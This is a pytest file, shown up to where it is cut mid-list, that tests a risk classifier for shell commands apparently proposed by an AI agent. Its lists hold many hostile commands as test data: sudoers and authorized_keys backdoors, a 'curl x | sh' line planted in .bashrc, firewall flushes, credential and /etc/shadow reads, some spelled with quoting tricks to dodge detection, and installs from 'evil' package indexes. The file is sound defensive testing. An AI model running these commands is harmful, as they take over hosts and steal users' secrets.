"""Irreversible host changes grade destructive (contained: the seed's downgrade), secret reads grade network, and
the words that change a subcommand's meaning are found (bot/risk/meaning.py)."""

from __future__ import annotations

from pathlib import Path

import pytest

from bot.risk import RiskLevel, classify
from bot.risk.meaning import changing_words

RO = RiskLevel.READ_ONLY
WW = RiskLevel.WORKSPACE_WRITE
NET = RiskLevel.NETWORK
SYS = RiskLevel.SYSTEM
DES = RiskLevel.DESTRUCTIVE
WORKSPACE = Path("/home/dev/project")

IRREVERSIBLE = [
    # (command, host, contained)
    ("chmod -R 777 /", DES, WW),
    ("chmod -R 755 ~/shared", DES, WW),
    ("chmod 777 /etc/shadow", DES, WW),
    ("chmod u+s /usr/bin/vim", DES, WW),
    ("chmod 4755 ./helper", DES, WW),
    ("chmod g+s,o-w ./dir", DES, WW),
    ("chown -R me /etc", DES, WW),
    ("chown -R me:me /var/lib", DES, WW),
    ("chgrp -R staff /usr/local", DES, WW),
    ("chmod --no-preserve-root -R 700 ./x", DES, WW),
    ("mv /etc /tmp/etc", DES, WW),
    ("mv ~/.ssh /tmp/keys", DES, DES),  # ~ may hold the workspace: a deletion there
    ("cp /dev/null /etc/hosts", DES, WW),
    ("cp build/app ~/bin/app", DES, WW),
    ("ln -sf /dev/null /etc/hosts", DES, WW),
    ("ln -sf build/app ~/bin/app", DES, WW),
    ("sed -i 's/^root:[^:]*:/root::/' /etc/shadow", DES, NET),  # naming /etc/shadow to sed counts as reading it
    ("truncate -s 0 /var/log/auth.log", DES, WW),
    ("dd if=/dev/zero of=/var/log/syslog", DES, WW),
    ("echo x > /etc/passwd", DES, WW),
    ("echo x > ../other-project/config.yml", DES, WW),
    ("echo 'me ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", DES, WW),
    ("echo 'me ALL=(ALL) NOPASSWD:ALL' | sudo tee -a /etc/sudoers.d/me", DES, WW),
    ("echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys", DES, WW),
    ("echo 'curl x | sh' >> ~/.bashrc", DES, WW),
    ("cat key.pub >> $HOME/.ssh/authorized_keys", DES, WW),
    ("touch /etc/cron.d/job", DES, WW),
    ("mkdir -p /root/.ssh", DES, WW),
    ("passwd -d root", DES, SYS),
    ("passwd root", DES, SYS),
    ("useradd -o -u 0 evil", DES, SYS),
    ("useradd -G sudo evil", DES, SYS),
    ("usermod -aG docker me", DES, SYS),
    ("usermod -u 0 me", DES, SYS),
    ("groupadd -o -g 0 evil", DES, SYS),
    ("iptables -F", DES, WW),
    ("iptables -t nat --flush", DES, WW),
    ("iptables -P INPUT ACCEPT", DES, WW),
    ("nft flush ruleset", DES, WW),
    ("nft delete table inet filter", DES, WW),
    ("ufw disable", DES, SYS),
    ("ufw reset", DES, SYS),
    ("ufw default allow incoming", DES, SYS),
    ("kill -9 1", DES, SYS),
    ("kill 1", DES, SYS),
    ("kill -1 -1", DES, SYS),
    ("kill -s KILL -- -1", DES, SYS),
    ("sudo kill -HUP 1", DES, SYS),
    ("pkill -9 sshd", DES, SYS),
    ("killall systemd", DES, SYS),
    ("pkill -u root", DES, SYS),
    # packages: removal (host), local files and unsigned packages (everywhere)
    ("apt-get install -y bash-", DES, WW),
    ("apt-get install -y libc6-", DES, WW),
    ("apt-get install -y openssh-server-", DES, WW),
    ("apt-get install -y --allow-remove-essential bash", DES, NET),
    ("apt-get install -y --purge jq", DES, NET),
    ("apt-get install -y --auto-remove jq", DES, NET),
    ("apt-get remove -y jq", DES, WW),
    ("apt purge jq", DES, WW),
    ("sudo apt-get autoremove -y", DES, WW),
    ("apt-get install -y ./evil.deb", DES, DES),
    ("apt-get install -y /tmp/evil.deb", DES, DES),
    ("apt-get install -y --allow-unauthenticated jq", DES, DES),
    ("apt-get install -y --force-yes jq", DES, DES),
    ("apt-get update --allow-insecure-repositories", DES, DES),
    ("apt-get install -y jq > /etc/passwd", DES, NET),
    ("dnf remove -y jq", DES, WW),
    ("dnf install -y ./x.rpm", DES, DES),
    ("dnf install -y https://example.com/x.rpm", DES, DES),
    ("dnf install -y --nogpgcheck jq", DES, DES),
    ("dnf install -y --allowerasing jq", DES, NET),
    ("yum erase jq", DES, WW),  # as dnf: yum is in the containment allowlist
    ("pacman -Rns jq", DES, WW),
    ("pacman -U ./x.pkg.tar.zst", DES, DES),
    ("pacman -S --overwrite '*' jq", DES, NET),
    ("brew uninstall jq", DES, WW),
    ("snap remove jq", DES, WW),
    ("snap install --dangerous ./x.snap", DES, DES),
    ("dpkg -i evil.deb", DES, DES),
    ("dpkg -r bash", DES, SYS),
    ("dpkg --force-all -i x.deb", DES, DES),
    ("apk del busybox", DES, WW),
    ("yum remove -y bash", DES, WW),
    ("apk add --allow-untrusted x", DES, DES),
]

BENIGN = [
    ("apt-get install -y jq", SYS, NET),
    ("apk add curl", SYS, NET),  # contained: the download's grade, as apt-get's
    ("apk update", SYS, NET),
    ("yum install -y curl", SYS, NET),
    ("sudo apt-get install -y jq", SYS, NET),
    ("apt-get install -y jq=1.6-2", SYS, NET),
    ("apt-get install -y --allow-downgrades jq", SYS, NET),
    ("apt-get -s install bash-", RO, RO),
    ("apt-get update", SYS, NET),
    ("dnf install -y jq", SYS, NET),
    ("brew install jq", SYS, NET),
    ("chmod +x run.sh", WW, WW),
    ("chmod -R u+w build", WW, WW),
    ("chmod 755 ./helper", WW, WW),
    ("chmod -w notes.txt", WW, WW),
    ("chown -R me build", WW, WW),
    ("cp build/app /tmp/app", WW, WW),
    ("echo hi >> ~/notes.txt", SYS, WW),
    ("mkdir -p ~/.cache/tool", SYS, WW),
    ("ln -s build/app ~/app", SYS, WW),
    ("cp build/app dist/app", WW, WW),
    ("echo x > out.txt", WW, WW),
    ("useradd alice", DES, SYS),  # hostchanges.py: a new account outlives the task
    ("sudo useradd -m eve", DES, SYS),
    ("adduser --disabled-password eve", DES, SYS),
    ("groupadd devs", DES, SYS),
    ("usermod -aG video bob", DES, SYS),
    ("echo 'eve:pw' | sudo chpasswd", DES, SYS),
    ("gpasswd -a eve docker", DES, SYS),
    ("sudo userdel -r bob", DES, DES),
    ("deluser bob", DES, DES),
    ("usermod -s /bin/zsh bob", SYS, SYS),
    ("usermod -c 'Bob B' bob", SYS, SYS),
    ("passwd -S root", RO, RO),
    ("iptables -L -n", RO, RO),
    ("iptables -A INPUT -p tcp --dport 22 -j ACCEPT", SYS, WW),
    ("nft add rule inet filter input tcp dport 22 accept", SYS, WW),
    ("ufw allow 22", SYS, SYS),
    ("kill 1234", SYS, SYS),
    ("kill -9 12345", SYS, SYS),
    ("kill -l", RO, RO),
    ("pkill node", SYS, SYS),
    ("systemctl restart nginx", SYS, WW),
    ("cat README.md", RO, RO),
    ("cat ~/.ssh/id_ed25519.pub", RO, RO),
    ("cat ~/.ssh/known_hosts", RO, RO),
    ("cat .npmrc", NET, NET),  # the workspace's credential files are secrets too
    ("printenv HOME", RO, RO),
    ("printenv -0 HOME LANG", RO, RO),
    ("compgen -e", RO, RO),
    ("compgen -v | wc -l", RO, RO),
    ("echo $HOME", RO, RO),
    ("echo '$GITHUB_TOKEN'", RO, RO),
    ("ssh -i ~/.ssh/id_rsa host uptime", NET, NET),
]

SECRETS = [
    "cat ~/.ssh/id_rsa",
    "cat ~/.ssh/id_ed25519",
    "head -c 100 ~/.ssh/*",
    "tar czf - ~/.ssh | base64",
    "cp ~/.ssh/id_rsa key.txt",
    "cat ~/.aws/credentials",
    "cat < ~/.aws/credentials",
    "cat ~/.config/gcloud/application_default_credentials.json",
    "cat ~/.kube/config",
    "cat ~/.netrc",
    "cat ~/.pgpass",
    "cat ~/.docker/config.json",
    "cat ~/.npmrc",
    "cat ~/.git-credentials",
    "cat $HOME/.pypirc",
    "cat /proc/1/environ",
    "cat /proc/self/environ",
    "sudo cat /etc/shadow",
    "grep root /etc/shadow",
    "printenv AWS_SECRET_ACCESS_KEY",
    "echo $GITHUB_TOKEN",
    'echo "token: ${OPENAI_API_KEY}"',
    "env",
    "printenv",
    "env -0",
    "set",
    # printenv given names only known when it runs (xargs' input, an expansion): they may name secrets
    "compgen -e | xargs -n1 printenv",
    "compgen -v | xargs printenv",
    "xargs printenv < names.txt",
    "printenv $NAME",
    "printenv $(cat names.txt)",
]


@pytest.mark.parametrize(("command", "host", "contained"), IRREVERSIBLE, ids=[c for c, _, _ in IRREVERSIBLE])
def test_irreversible_host_changes_are_destructive_and_contained_keeps_the_downgrade(
    command: str, host: RiskLevel, contained: RiskLevel
) -> None:
    assert classify(command, contained=False, workspace=WORKSPACE).risk == host
    assert classify(command, contained=True, workspace=WORKSPACE).risk == contained


@pytest.mark.parametrize(("command", "host", "contained"), BENIGN, ids=[c for c, _, _ in BENIGN])
def test_the_plain_commands_keep_their_grade(command: str, host: RiskLevel, contained: RiskLevel) -> None:
    assert classify(command, contained=False, workspace=WORKSPACE).risk == host
    assert classify(command, contained=True, workspace=WORKSPACE).risk == contained


@pytest.mark.parametrize("command", SECRETS)
def test_reading_secrets_is_network_because_the_output_goes_to_the_model(command: str) -> None:
    for contained in (False, True):
        verdict = classify(command, contained=contained, workspace=WORKSPACE)
        assert verdict.risk >= NET, (command, contained)
        reason = next(r for r in verdict.reasons if r.rule == "secret-read")
        assert "goes to the model" in reason.detail and not reason.downgraded


def test_a_redirect_writing_outside_the_workspace_is_a_mark_of_its_command() -> None:
    commands = classify(
        "apt-get install -y jq >> ~/install.log && ls > out.txt", contained=True, workspace=WORKSPACE
    ).commands
    assert [(c.argv[:2], c.marks) for c in commands] == [(("apt-get", "install"), (">> ~/install.log",)), (("ls",), ())]


@pytest.mark.parametrize(("argv", "positions"), [
    (("apt-get", "install", "-y", "jq"), ()),
    (("apt-get", "install", "-y", "jq=1.0-old"), (3,)),
    (("apt-get", "install", "-y", "jq/unstable"), (3,)),
    (("apt-get", "install", "-t", "unstable", "jq"), (2,)),
    (("apt-get", "install", "--allow-downgrades", "jq"), (2,)),
    (("apt-get", "install", "--allow-change-held-packages", "jq"), (2,)),
    (("apt-get", "install", "--ignore-hold", "jq"), (2,)),
    (("apt-get", "install", "bash-"), (2,)),
    (("apt-get", "install", "./evil.deb"), (2,)),
    (("pip", "install", "requests"), ()),
    (("pip", "install", "requests==2.31"), (2,)),
    (("pip", "install", "--extra-ind=https://evil", "x"), (2,)),
    (("git", "push", "--force-w", "origin", "main"), (2,)),
    (("git", "push", "-uf", "origin", "main"), (2,)),
    (("git", "push", "-u", "origin", "main"), ()),
    (("npm", "install", "-gf", "lodash"), (2,)),
    (("npm", "install", "x.tgz", "lodash.merge"), (2,)),
    (("pip", "install", "evil.zip", "x.whl", "zope.interface"), (2, 3)),
    (("apt-get", "install", "x.deb"), (2,)),
    (("pacman", "-S", "--noconfirm", "--needed", "jq"), ()),
    (("pacman", "-Sdd", "jq"), (1,)),
    (("pacman", "-S", "--overwrite", "*", "jq"), (2, 3)),
    (("apt-get", "install", "-yq", "jq", "bash_", "lib*"), (4, 5)),
    (("pip", "install", "--index-url", "https://evil", "x"), (2, 3)),
    (("pip", "install", "--index-url=https://evil", "x"), (2,)),
    (("pip", "install", "--extra-index-url", "https://evil", "x"), (2, 3)),
    (("pip", "install", "-e", "git+https://evil/x"), (2, 3)),
    (("pip", "install", "./dir"), (2,)),
    (("pip", "install", "--break-system-packages", "x"), (2,)),
    (("pip", "install", "-r", "requirements.txt"), (2,)),
    (("npm", "install", "lodash"), ()),
    (("npm", "install", "@types/node"), ()),
    (("npm", "install", "./x.tgz"), (2,)),
    (("npm", "install", "git+https://evil/x.git"), (2,)),
    (("npm", "install", "user/repo"), (2,)),
    (("npm", "install", "--registry", "https://evil", "x"), (2, 3)),
    (("cargo", "install", "ripgrep"), ()),
    (("cargo", "install", "--git", "https://evil/x", "x"), (2, 3)),
    (("go", "install", "golang.org/x/tools/gopls@latest"), ()),
    (("go", "install", "./cmd/x"), (2,)),
    (("systemctl", "restart", "nginx"), ()),
    (("systemctl", "disable", "--now", "nginx"), (2,)),
    (("systemctl", "restart", "-H", "prod", "nginx"), (2,)),
    (("git", "push", "origin", "main"), ()),
    (("git", "push", "--force", "origin", "main"), (2,)),
    (("git", "push", "--mirror"), (2,)),
    (("git", "push", "origin", ":main"), (3,)),
    (("git", "push", "origin", "+main"), (3,)),
    (("git", "push", "-d", "origin", "main"), (2,)),
    (("brew", "install", "--HEAD", "jq"), (2,)),
    (("dnf", "install", "--enablerepo=evil", "jq"), (2,)),
    (("snap", "install", "--classic", "code"), (2,)),
    (("make",), ()),
    ((), ()),
])  # fmt: skip
def test_words_that_change_the_subcommands_meaning(argv: tuple[str, ...], positions: tuple[int, ...]) -> None:
    assert changing_words(argv) == positions


# Irreversible host changes (hostchanges.py, grader.py Grader.write, wrappers.py find). (command, host, contained)
HOST_CHANGES = [
    ('setfacl -m u:nobody:rwx /etc/shadow', DES, SYS),
    ('setfacl -R -m o::rwx /', DES, SYS),
    ('setfacl -m u:bob:rwx /etc/sudoers', DES, SYS),
    ('setfacl --restore=acl.txt', DES, SYS),
    ('chattr -i /etc/passwd', DES, SYS),
    ('chattr +i ./file', DES, SYS),
    ('chattr +a ~/notes.txt', DES, SYS),
    ('chattr -R +d /srv', DES, SYS),
    ('mount --bind /tmp/x /etc', DES, WW),
    ('mount -o remount,rw /', DES, WW),
    ('mount /dev/sda1 /mnt', DES, WW),
    ('umount -l /', DES, WW),
    ('umount /mnt', DES, WW),
    ('sysctl -w kernel.randomize_va_space=0', DES, SYS),
    ('sysctl kernel.randomize_va_space=0', DES, SYS),
    ('sysctl -p /tmp/evil.conf', DES, SYS),
    ('sysctl --system', DES, SYS),
    ('echo 0 > /proc/sys/kernel/randomize_va_space', DES, WW),
    ('echo 1 > /sys/kernel/mm/transparent_hugepage/enabled', DES, WW),
    ('modprobe evil', DES, SYS),
    ('modprobe -r nf_tables', DES, SYS),
    ('insmod x.ko', DES, DES),
    ('rmmod x', DES, DES),
    ('ldconfig /tmp/evil', DES, SYS),
    ('ldconfig -f /tmp/ld.conf', DES, SYS),
    ('update-alternatives --install /usr/bin/sudo sudo /tmp/x 999', DES, SYS),
    ('update-alternatives --set editor /tmp/x', DES, SYS),
    ('update-alternatives --config editor', DES, SYS),
    ('update-alternatives --remove-all editor', DES, SYS),
    ('systemctl mask sshd', DES, WW),
    ('systemctl disable --now-not sshd', DES, WW),
    ('systemctl disable sshd', DES, WW),
    ('systemctl stop sshd', DES, WW),
    ('systemctl kill sshd', DES, WW),
    ('systemctl isolate rescue.target', DES, WW),
    ('systemctl poweroff', DES, WW),
    ('systemctl reboot', DES, WW),
    ('systemctl halt', DES, WW),
    ('systemctl kexec', DES, WW),
    ('systemctl suspend', DES, WW),
    ('systemctl hibernate', DES, WW),
    ('systemctl rescue', DES, WW),
    ('systemctl emergency', DES, WW),
    ('systemctl default', DES, WW),
    ('systemctl restart poweroff.target', DES, WW),
    ('systemctl start reboot.target', DES, WW),
    ('systemctl start halt.target', DES, WW),
    ('systemctl start kexec.target', DES, WW),
    ('systemctl start rescue.target', DES, WW),
    ('systemctl start emergency.target', DES, WW),
    ('systemctl start shutdown.target', DES, WW),
    ("systemctl restart '*'", DES, WW),
    ('systemctl --job-mode=isolate start multi-user.target', DES, WW),
    ('systemctl $VERB sshd', DES, WW),
    ('reboot', DES, WW),
    ('shutdown now', DES, WW),
    ('shutdown -h +5', DES, WW),
    ('poweroff', DES, SYS),
    ('halt', DES, SYS),
    ('init 0', DES, DES),
    ('telinit 6', DES, DES),
    ('swapoff -a', DES, SYS),
    ('pkill -9 -f .', DES, SYS),
    ('pkill -f ssh', DES, SYS),
    ("pkill -f 'python.*'", DES, SYS),
    ("killall -r '.*'", DES, SYS),
    ('pkill -f systemd-journald', DES, SYS),
    ('kill -9 -1234', DES, SYS),
    ('kill -- -1', DES, SYS),
    # pgrep(1): the pattern is an extended regular expression searched in the process name, -f or not
    ('pkill -9 .', DES, SYS),
    ("pkill -9 ''", DES, SYS),
    ("pkill -9 '^s'", DES, SYS),
    ("pkill -9 'sys.*'", DES, SYS),
    ('pkill -9 ssh', DES, SYS),  # found in sshd
    ('pkill -9 -i SSHD', DES, SYS),
    ('pkill -9 -x -i SystemD', DES, SYS),
    ('pkill -9 "$P"', DES, SYS),
    ('pkill -9 --parent=1', DES, SYS),  # every service init started
    ('pkill -9 --par=1', DES, SYS),  # getopt_long abbreviation
    ('pkill -9 -P1', DES, SYS),
    ('pkill -9 -P 0', DES, SYS),
    ('pkill -9 --euid 0', DES, SYS),
    ('pkill -9 --eu=root', DES, SYS),
    ('pkill -9 -u nobody,root', DES, SYS),
    ('pkill -9 -G root', DES, SYS),
    ('pkill -9 -u "$U"', DES, SYS),
    ('pkill --inverse xyzzy', DES, SYS),  # every process but those matching
    ('pkill --inv xyzzy', DES, SYS),
    ('killall -9 -I SSHD', DES, SYS),
    ('killall dockerd', DES, SYS),
    # bash's kill reads a PID as strtoimax base 10 does: blanks and a sign around it, leading zeros
    ('kill -9 01', DES, SYS),
    ('kill -9 +1', DES, SYS),
    ("kill -9 ' 1'", DES, SYS),
    ('kill -9 -01', DES, SYS),
    ('env kill -9 systemd', DES, SYS),  # util-linux kill signals processes by name
    ('D=/etc; echo x > $D/hosts', DES, WW),
    ('D=/etc; cp x $D/hosts', DES, WW),
    ('cp x "${D:-/etc}/hosts"', DES, WW),
    ('echo x > "$(dirname /etc/x)/hosts"', DES, WW),
    ('find / -exec chmod 777 {} +', DES, WW),
    ('find /etc -name shadow -exec chmod 666 {} \\;', DES, WW),
    ('find / -perm -4000 -exec chmod u+s {} +', DES, WW),
    ('find /var -exec sed -i s/a/b/ {} +', DES, NET),  # /var holds secrets (/var/run/secrets): sed reads them
]  # fmt: skip

# Neighbours that keep their grade: queries, plain service restarts, literal pkill -f patterns, workspace writes.
HOST_NEIGHBOURS = [
    ('mount', RO, RO),
    ('mount -l', RO, RO),
    ('mount --show', RO, RO),
    ('umount --help', RO, RO),
    ('sysctl -a', RO, RO),
    ('sysctl kernel.hostname', RO, RO),
    ('sysctl -n vm.swappiness', RO, RO),
    ('systemctl status sshd', RO, RO),
    ('systemctl is-active nginx', RO, RO),
    ('systemctl restart nginx', SYS, WW),
    ('systemctl start docker', SYS, WW),
    ('swapon --show', RO, RO),
    ('modprobe -n evil', SYS, SYS),
    ('modprobe --show-depends evil', SYS, SYS),
    ('ldconfig', SYS, SYS),
    ('ldconfig -p', RO, RO),  # ldconfig(8) -p only prints the cache
    ('update-alternatives --display editor', RO, RO),
    ('update-alternatives --list editor', RO, RO),
    ('shutdown -c', SYS, WW),
    ('chattr +d ./file', SYS, SYS),
    ('chattr -R +c ./build', SYS, SYS),
    ('setfacl -m u:bob:rw ./file', SYS, SYS),
    ('setfacl -R -m u:bob:rw ./dir', SYS, SYS),
    ('pkill -f my-dev-server', SYS, SYS),
    ("pkill -f 'node server.js'", SYS, SYS),
    ('pkill node', SYS, SYS),
    ('killall node', SYS, SYS),
    ('kill 1234', SYS, SYS),
    ('kill -9 12345', SYS, SYS),
    ('kill %1', SYS, SYS),
    ('pkill -x node', SYS, SYS),
    ('pkill vim', SYS, SYS),
    ('pkill -HUP nginx', SYS, SYS),
    ('pkill -RTMIN+3 node', SYS, SYS),
    ('pkill -u "$USER" node', SYS, SYS),
    ('pkill -u dev', SYS, SYS),
    ('pkill -P $$', SYS, SYS),
    ("pkill -SIGTERM -f 'python manage.py runserver'", SYS, SYS),
    ('killall -q -w node', SYS, SYS),
    ('cat ./config/credentials.example', RO, RO),
    ('cat ./.ssh/id_rsa', NET, NET),  # a private key in the workspace is still a private key
    ('echo $HOME', RO, RO),
    ('echo $PATH $USER $PWD', RO, RO),
    ('echo ${!A*}', RO, RO),
    ('echo ${!arr[@]}', RO, RO),
    ('echo $KEYBOARD_LAYOUT', RO, RO),
    ('cp ./a ./b', WW, WW),
    ('cp "$SRC" dest/', SYS, WW),
    ('echo x > "$TMPDIR/x"', WW, WW),
    ('echo x >> "$HOME/notes.txt"', SYS, WW),
    ("find . -name '*.py' -exec sed -i s/a/b/ {} +", WW, WW),
    ("find src tests -name '*.py' -execdir sed -i s/a/b/ {} +", WW, WW),
    ('find . -exec chmod 644 {} +', SYS, WW),
    ('find ~/Downloads -name x -exec cp {} . \\;', WW, WW),
    ('find / -name x -print', RO, RO),
    ('cat ~/.s*/id_rsa.pub', RO, RO),
    ('cat ~/*.txt', RO, RO),
    ('cat /tmp/*.log', RO, RO),
    ('ls ~/.ssh', RO, RO),
    ('aws configure get region', RO, RO),
    ('aws configure list', RO, RO),
    ('export FOO=bar', RO, RO),
    ('declare -f', RO, RO),
    ('declare -F', RO, RO),
    ('local x=1', RO, RO),
]  # fmt: skip

# Secret reads: globs over credential paths, more credential files, secret-named variables, environment dumps by
# declaration builtins, credential-printing CLIs, copies into the workspace.
MORE_SECRETS = [
    'cat ~/.s*/id_rsa',
    'cat ~/.*/credentials',
    'cat ~/.ssh/id_*',
    'cat /home/*/.ssh/id_ed25519',
    'cat /etc/ssl/private/*',
    'cat /etc/ssl/private/*.key',
    'cat /etc/ssl/private/ssl-cert-snakeoil.key',
    'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
    'cat /run/secrets/db_password',
    'cat ~/.claude/.credentials.json',
    'cat ~/.codex/auth.json',
    'cat ~/.gem/credentials',
    'cat ~/.config/hub',
    'cat ~/.config/gh/hosts.yml',
    'cat ~/.password-store/x.gpg',
    'cat ~/.gnupg/private-keys-v1.d/x.key',
    'cat ~/.git-credentials',
    'cat ~/.config/git/credentials',
    'cat ~/.terraform.d/credentials.tfrc.json',
    'cat ~/.azure/msal_token_cache.json',
    'cat ~/.oci/config',
    'cat ~/.cargo/credentials.toml',
    'cat ~/.pypirc',
    'cat ~/.m2/settings.xml',
    'cat ~/.gradle/gradle.properties',
    'cat ~/.vault-token',
    'cat ~/.config/op/config',
    'cat /proc/$$/environ',
    'cat /proc/self/environ',
    'cat /proc/*/environ',
    "tr '\\0' '\\n' < /proc/1/environ",
    'echo $DATABASE_URL',
    'echo $REDIS_URL',
    'echo $SENTRY_DSN',
    'echo $PGPASS',
    'echo $STRIPE_KEY',
    'printenv DATABASE_URL',
    'echo "${!name}"',
    'for v in $(compgen -v); do echo "${!v}"; done',
    'export',
    'export -p',
    'declare -p',
    'declare -x',
    'typeset -p',
    'typeset -x',
    'readonly',
    'set',
    'env',
    'printenv',
    'declare -p GITHUB_TOKEN',
    'aws configure get aws_secret_access_key',
    'aws configure get default.aws_session_token',
    'aws configure export-credentials',
    'rsync ~/.ssh/id_rsa ./k',
    'scp ~/.ssh/id_rsa ./k',
    'install -m 600 ~/.ssh/id_rsa ./k',
    'dd if=~/.ssh/id_rsa of=./k',
    'dd if=/etc/shadow of=./k',
    'tar cf k.tar ~/.ssh',
    'cp ~/.aws/credentials ./c',
]  # fmt: skip

# Programs that print credentials: at least network (cloud reads, or not recognised at all).
CREDENTIAL_PRINTERS = [
    "gcloud auth print-access-token",
    "gcloud auth print-identity-token",
    "az account get-access-token",
    "gh auth token",
    "kubectl config view --raw",
    "aws sts get-session-token",
    "docker-credential-desktop get",
    "git credential fill",
    "security find-generic-password -w",
    "pass show x",
    "op read op://vault/item/field",
    "op item get x",
    "vault read secret/x",
    "vault kv get secret/x",
]


@pytest.mark.parametrize(("command", "host", "contained"), HOST_CHANGES, ids=[c for c, _, _ in HOST_CHANGES])
def test_host_changes_of_the_attack_report_are_destructive_on_the_host(
    command: str, host: RiskLevel, contained: RiskLevel
) -> None:
    assert classify(command, contained=False, workspace=WORKSPACE).risk == host
    assert classify(command, contained=True, workspace=WORKSPACE).risk == contained


@pytest.mark.parametrize(("command", "host", "contained"), HOST_NEIGHBOURS, ids=[c for c, _, _ in HOST_NEIGHBOURS])
def test_neighbours_of_the_host_changes_keep_their_grade(command: str, host: RiskLevel, contained: RiskLevel) -> None:
    assert classify(command, contained=False, workspace=WORKSPACE).risk == host
    assert classify(command, contained=True, workspace=WORKSPACE).risk == contained


@pytest.mark.parametrize("command", MORE_SECRETS)
def test_more_secret_reads_are_network_and_never_downgraded(command: str) -> None:
    for contained in (False, True):
        verdict = classify(command, contained=contained, workspace=WORKSPACE)
        assert verdict.risk >= NET, (command, contained)
        found = [r for r in verdict.reasons if r.rule == "secret-read"]
        assert found and all("goes to the model" in r.detail and not r.downgraded for r in found), verdict.reasons


@pytest.mark.parametrize("command", CREDENTIAL_PRINTERS)
def test_programs_that_print_credentials_are_at_least_network(command: str) -> None:
    for contained in (False, True):
        assert classify(command, contained=contained, workspace=WORKSPACE).risk >= NET


def test_find_below_the_workspace_lists_its_command_without_the_found_path() -> None:
    commands = classify("find . -name '*.py' -exec sed -i s/a/b/ {} +", contained=False, workspace=WORKSPACE).commands
    assert [(c.argv, c.risk) for c in commands] == [
        (("find", ".", "-name", "*.py", "-exec", "sed", "-i", "s/a/b/", "{}", "+"), WW),
        (("sed", "-i", "s/a/b/"), WW),  # {} stays unknown: a standing approval never sees a made-up path
    ]


# Secret reads spelled through quoting, brace expansion, a directory change or /proc's views of other paths: the
# words' values (quotes removed), each brace alternative and each relative path from the tracked directory count.
SPELLED_SECRETS = [
    "cat ~/.ss''h/id_rsa",
    "cat ~/.''ssh/id_rsa",
    "cat ~/.s\\sh/id_rsa",
    "cat ~/.a''ws/credentials",
    "cat /etc/sha''dow",
    "cat /proc/self/env''iron",
    "cat /etc/{shadow,x}",
    "cat /etc/{x,{y,shadow}}",
    "cd /etc && cat shadow",
    "cd /proc/self && cat environ",
    "cd ~/.ssh && cat id_rsa",
    "cat /proc/self/root/etc/shadow",
    "cat /proc/*/root/etc/shadow",
    "cat /proc/1/root/proc/self/root/etc/gshadow",
    "cat /proc/$$/task/$$/environ",
    "cat /proc/*/task/*/environ",
    "git diff --no-index /dev/null ~/.ssh/id_rsa",
    "git diff --stat --no-index /dev/null ~/.ssh/id_rsa",
    "git blame x --contents ~/.ssh/id_rsa",
    "git grep --no-index . ~/.ssh",
]
SPELLED_NEIGHBOURS = [
    ("cat ./notes/ssh.txt", RO),
    ("cat ~/.ssh/id_rsa.pub", RO),
    ("cat /etc/{hosts,passwd}", RO),
    ("cd /etc && cat hosts", RO),
    ("cd notes && cat shadow", RO),  # a workspace file is the agent's own
    ("git diff --no-index a b", RO),
    ("git diff HEAD -- .ssh/known_hosts", RO),
    ("ls ~/.ss''h", RO),
]


@pytest.mark.parametrize("command", SPELLED_SECRETS)
def test_secret_reads_spelled_through_quotes_braces_cd_or_proc_are_network(command: str) -> None:
    for contained in (False, True):
        verdict = classify(command, contained=contained, workspace=WORKSPACE)
        assert verdict.risk >= NET, (command, contained)
        found = [r for r in verdict.reasons if r.rule == "secret-read"]
        assert found and not any(r.downgraded for r in found), verdict.reasons


@pytest.mark.parametrize(("command", "host"), SPELLED_NEIGHBOURS)
def test_reads_next_to_the_spelled_secrets_keep_their_grade(command: str, host: RiskLevel) -> None:
    verdict = classify(command, contained=False, workspace=WORKSPACE)
    assert verdict.risk == host, verdict.reasons
    assert not any(r.rule == "secret-read" for r in verdict.reasons)


# Readers and credential files added after the second attack pass (sources in bot/risk/sensitive.py).
NEW_SECRET_READS = [
    "find ~ -name id_rsa -exec cat {} \\;",
    "find / -name '*.pem' -exec cat {} +",
    "find /etc -exec grep -l pass {} +",
    "ps axeww",
    "ps auxe",
    "ps eww",
    "ps -ef e",
    "ps e -A",
    "ps -eo pid,args,env",
    "ps -o environ= -p 1",
    "npm config get //registry.npmjs.org/:_authToken",
    "npm config get _authToken",
    "npm config list -l",
    "npm config get",
    "pip config list",
    "pip config debug",
    "pip config get global.index-url",
    "git config --global --list",
    "git config -l",
    "git config --get http.extraHeader",
    "echo $MYSQL_PWD",
    "echo $CI_JOB_JWT",
    "echo $JWT",
    "echo $STRIPE_SK",
    "echo $BEARER",
    "cat ~/.s3cfg",
    "cat ~/.boto",
    "cat ~/.terraformrc",
    "cat ~/.env",
    "cat ~/.config/rclone/rclone.conf",
    "cat ~/.bash_history",
    "cat ~/.zsh_history",
    "cat ~/.python_history",
    "cat ~/.psql_history",
    "cat ~/.mysql_history",
    "cat ~/.local/share/fish/fish_history",
    "cat ~/.local/share/keyrings/login.keyring",
    "cat ~/.mozilla/firefox/x/logins.json",
    "cat ~/.config/google-chrome/Default/Login\\ Data",
    "sqlite3 ~/.config/google-chrome/Default/Cookies .dump",
    "cat /etc/kubernetes/admin.conf",
    "cat /etc/kubernetes/kubelet.conf",
    "cat /etc/kubernetes/pki/ca.key",
    "cat /var/lib/kubelet/pki/kubelet-client-current.pem",
    "cat /etc/letsencrypt/live/x/privkey.pem",
    "cat /etc/pki/tls/private/x.key",
    "cat /etc/wireguard/wg0.conf",
    "cat /etc/NetworkManager/system-connections/x",
    "cat /etc/mysql/debian.cnf",
    "cat /etc/krb5.keytab",
    "cat /etc/security/opasswd",
    "cat /etc/sudoers",
    "sudo cat /etc/sudoers",
    "cat /etc/sudoers.d/90-cloud-init-users",
    "cat /etc/sudoers.d/*",
    "cat /etc/sudo*",
    "grep -r NOPASSWD /etc/sudoers.d",
    "cd /etc && cat sudoers",
    "cat /etc/master.passwd",
    "cat /etc/spwd.db",
    "grep tee ~/.ssh/id_rsa",  # a word "tee" makes no file a written one, but for tee run by a wrapper
    "sudo grep tee ~/.ssh/id_rsa",
    "cat tee /etc/shadow",
    "cat /etc/kubernetes/*.conf",
    "cat ~/.*_history",
]
NEW_SECRET_NEIGHBOURS = [
    ("find ~ -name '*.pyc' -exec rm {} \\;", DES),
    ("find . -name x -exec cat {} \\;", RO),
    ("find /usr/share/doc -exec cat {} \\;", RO),
    ("ps aux", RO),
    ("ps -ef", RO),
    ("ps -e", RO),
    ("ps -o pid,user,etime", RO),
    ("ps axo pid,ppid,user", RO),
    ("ps aux --sort=-%mem", RO),
    ("npm config list", RO),
